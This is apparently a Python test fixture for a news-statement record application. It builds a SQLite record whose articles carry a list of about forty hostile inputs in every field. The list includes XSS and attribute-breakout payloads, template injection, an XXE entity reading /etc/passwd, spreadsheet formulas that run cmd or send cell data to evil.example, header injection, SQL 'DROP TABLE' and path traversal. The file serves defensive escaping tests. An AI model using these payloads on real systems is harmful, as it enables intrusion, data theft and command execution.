"""Words that do harm where a page does not escape them, and a record whose articles have them in every field."""

import sqlite3
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
from web_visits import PASSWORD

from sayso import Page
from sayso.article import Actor, Article, Engine, Span, Statement
from sayso.linking import update
from sayso.record import Record
from sayso.web.accounts import add_account

# Each has the word Evil in it, as text, as an element or as an attribute: by that it is found again.
WORDS = {
    "a script element": "<script>Evil(1)</script>",
    "an image that fails": '"><img src=x onerror=Evil(1)>',
    "an SVG that loads": "<svg/onload=Evil(1)>",
    "an element of its own": "<evil onevil=1>Evil</evil>",
    "an attribute in double quotes": 'Evil" onmouseover="evil(1)" autofocus x="',
    "an attribute in single quotes": "Evil' onfocus='evil(1)' autofocus x='",
    "an attribute without quotes": "Evil onfocus=evil(1) autofocus",
    "an attribute in backticks": "Evil` onfocus=evil(1) `",
    "the end of the title": "</title></head><body onload=Evil(1)>",
    "the end of a field of text": "</textarea></select></option><script>Evil(1)</script>",
    "the end of a chart": "</text></svg><script>Evil(1)</script>",
    "the end of a script": "</script><script>Evil(1)</script>",
    "a comment that does not end": "Evil <!-- ",
    "the end of a CDATA section": "]]><script>Evil(1)</script>",
    "a style element": "<style>body{background:url(//evil.example)}</style>Evil",
    "another base for all addresses": "<base href=//evil.example/>Evil",
    "a refresh to elsewhere": '<meta http-equiv=refresh content="0;url=//evil.example">Evil',
    "a frame with a page of its own": "<iframe srcdoc='<script>Evil(1)</script>'></iframe>",
    "a form that sends passwords away": "<form action=//evil.example><input name=password>Evil</form>",
    "an htmx request": '<a hx-get="//evil.example" hx-trigger=load>Evil</a>',
    "an htmx handler": '<b hx-on:click="evil(1)" data-hx-on:load="evil(1)">Evil</b>',
    "escaped already": "&lt;script&gt;Evil(1)&lt;/script&gt; &#60;b&#62; &quot;",
    "a template": "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}Evil{% endfor %}${7*7}#{7*7}",
    "a format string": "Evil {0.__class__} %s %n %(x)s",
    "an entity of XML": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>Evil',
    "a processing instruction of XML": "<?xml-stylesheet href='//evil.example'?>Evil",
    "a script's address": "javascript:Evil(1)",
    "a script's address in disguise": "\x01jAvA\tscript:Evil(1)//https://",
    "a page in an address": "data:text/html,<script>Evil(1)</script>",
    "an address that ends its attribute": 'https://evil.example/"onmouseover=Evil(1) x="',
    "a formula": '=HYPERLINK("http://evil.example/?"&A1,"Evil")',
    "a formula behind plus": "+Evil|'/c calc'!A1",
    "a formula behind minus": "-2+3+cmd|'/c calc'!Evil",
    "a formula behind at": "@SUM(1+1)*cmd|'/c calc'!Evil",
    "a formula behind a tab": "\t=Evil()",
    "a header": "Evil\r\nSet-Cookie: evil=1\r\n\r\n<script>evil(1)</script>",
    "letters from right to left": "Evil \u202etxt.exe\u202c \u2066\u2067\u2068live\u2069",
    "control characters": "Evil \x1b[2J\x07\x08\x0b\x0c\x7f\x85\ufffe\uffff",
    "a NUL": "Evil \x00<script\x00>evil(1)</script>",
    "half of a tag": "Evil <script src=//evil.example ",
    "letters that become brackets": "＜script＞Evil(1)＜/script＞ \u02bbonload=evil \u2039b\u203a",
    "a word without end": "Evil" + "x" * 5_000,
    "SQL": "Evil'; DROP TABLE articles; --",
    "a path": "../../../../etc/passwd%00Evil",
}  # fmt: skip

_ENGINE = Engine("0.1.0", "test")
_NAMES = ("Mira", "Tomas")


@dataclass(frozen=True, slots=True)
class Place:
    """Where some of the words stand: the numbers of an article with them, of the actor who makes its first statement,
    and of the thread that this is in; the id of that."""

    article: int
    statement: str
    actor: int
    thread: int


def written(path: Path) -> list[list[tuple[Any, ...]]]:
    """All that people can change in a record."""
    connection = sqlite3.connect(path)
    tables = ("articles", "corrections", "notes", "accounts", "actor_corrections", "tombstones")
    found = [connection.execute(f"SELECT * FROM {table}").fetchall() for table in tables]
    connection.close()
    return found


def error(answer: httpx.Response) -> int:
    """The status of an error in the API's one shape."""
    assert answer.headers["content-type"] == "application/json"
    (told,) = answer.json().values()
    assert set(told) == {"status", "title", "detail"}
    assert told["status"] == answer.status_code
    return answer.status_code


def hostile_record(path: Path) -> dict[str, Place]:
    """A record of two articles for each of the words, the first in two versions, with links; Rune may review. Gives
    where each of the words stand."""
    record = Record(path, new=True)
    run = record.begin("test", _ENGINE)
    for n, words in enumerate(WORDS.values()):
        for article in (_article(n, words, 1, "three"), _article(n, words, 1, "five"), _article(n, words, 2, "six")):
            page = Page(article.text.encode(), article.url, "text/plain", article.id, "2026-03-13T08:00:00Z", "utf-8")
            record.add(run, page, article)
    update(record)
    add_account(record, "Rune", "reviewer", PASSWORD)
    places = {name: _named(record, n, words) for n, (name, words) in enumerate(WORDS.items())}
    record.close()
    return places


def _named(record: Record, n: int, words: str) -> Place:
    """Call the actors of the articles by the words: linking would not take all of them for names."""
    found = record.connection.execute(
        "SELECT v.article, s.permanent AS statement, l.known AS actor, t.thread FROM articles AS r"
        " JOIN versions AS v ON v.article = r.id AND v.latest JOIN statements AS s ON s.version = v.id"
        " JOIN statement_actors AS x ON x.statement = s.id AND x.role = 'speaker'"
        " JOIN actor_links AS l ON l.actor = x.actor JOIN thread_statements AS t ON t.statement = s.id"
        " WHERE r.key = ? AND s.local_id = 's1'",
        (words,),
    ).fetchone()
    for name in _NAMES:
        for table in ("actors", "known_actors"):
            record.connection.execute(f"UPDATE {table} SET name = ? WHERE name = ?", (words, f"{name} {_word(n)}"))
    return Place(**found)


def _article(n: int, words: str, which: int, pillars: str) -> Article:
    """The `which`th article with these words. Its address is these, or one that they stand in."""
    speaker, other = (f"{name} {_word(n)}" for name in _NAMES)
    said = (
        f"We found cracks in {pillars} of the {_word(n)} pillars and {words} will not mend the {_word(n + 50)} bridge"
    )
    text = f"{words}\n\nMinister {speaker} told {other} that “{said}”. The {other} opposes the toll {words}."

    def span(part: str, after: str = "\n\n") -> Span:
        start = text.index(part, text.index(after))
        return Span.of(text, start, start + len(part))

    return Article(
        id=f"article-{n}-{which}", text=text, url=words if which == 1 else f"https://evil.example/{words}", title=words,
        outlet=words, authors=(words, "Ada Holm"), language="en", engine=_ENGINE,
        published=words if pillars == "three" else f"2026-0{which + 2}-13",
        actors=(
            Actor("a1", speaker, "person", (span(speaker),), ("Minister", words), words, None, {"page": words}),
            Actor("a2", other, "person", (span(other),), (words,)),
        ),
        statements=(
            Statement(
                "s1", (span("told"),), (span(f"Minister {speaker}"),), (span(f"“{said}”"),), "direct", 0.5,
                addressee=(span(other),), speakers=("a1",), addressees=("a2",), sourcing="named", act="warn",
            ),
            Statement(
                "s2", (span("opposes"),), (span(other, "”. "),), (span(f"the toll {words}"),), "indirect", 0.4,
                speakers=("a2",), sourcing="named", act="oppose",
            ),
        ),
    )  # fmt: skip


def _word(n: int) -> str:
    """A word of its own for each number."""
    return f"{'BDFGKLMNPR'[n % 10]}{'aeiou'[n % 5]}{'lmnrst'[n % 6]}{'aeiou'[n // 10 % 5]}{'dgkv'[n // 10 % 4]}er"
